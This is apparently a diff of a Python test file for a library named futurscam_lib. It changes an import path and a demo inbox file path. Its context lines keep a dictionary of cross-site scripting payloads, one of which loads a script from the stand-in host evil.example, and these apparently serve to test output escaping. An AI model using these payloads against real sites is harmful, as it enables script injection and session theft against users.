@@ -20,7 +20,7 @@ from nbconvert import HTMLExporter
 
 import futurscam_lib
 from futurscam_lib import clock
-from futurscam_lib.run import runner
+from futurscam_lib.runner import runner
 
 # That nbconvert has nothing to show for a scrap is as it should be.
 pytestmark = pytest.mark.filterwarnings("ignore:Your element with mimetype")
@@ -32,7 +32,7 @@ if TYPE_CHECKING:
 
     from futurscam_lib.settings import Settings
 
-POST = Path(futurscam_lib.__file__).parent / "demo_inbox" / "jobpost_JobPostModelToSupplierV1_60001.json"
+POST = Path(futurscam_lib.__file__).parent / "cli" / "demo_inbox" / "jobpost_JobPostModelToSupplierV1_60001.json"
 ALERTS = {
     "script": "<script>alert(1)</script><ScRiPt src=//evil.example/x.js></sCrIpT>",
     "handler": '"><img src=x onerror=alert(1)><svg/onload=alert(1)><b onmouseover="alert(1)">',
